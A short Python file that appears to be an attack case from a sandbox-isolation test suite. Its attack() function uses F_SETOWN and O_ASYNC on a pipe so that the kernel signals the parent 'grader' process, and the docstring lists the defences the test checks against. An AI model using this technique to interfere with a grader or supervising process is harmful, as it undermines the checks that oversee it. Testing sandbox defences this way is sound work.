"""Kind: signals.
Wins if the kernel is made to signal the grader about a pipe.
Defence: own uid, seccomp, Landlock.
Control: wins without the sandbox.
"""

import fcntl
import os


def attack(target):
    reading, writing = os.pipe()
    fcntl.fcntl(reading, fcntl.F_SETOWN, target["parent"])
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writing, b"x")
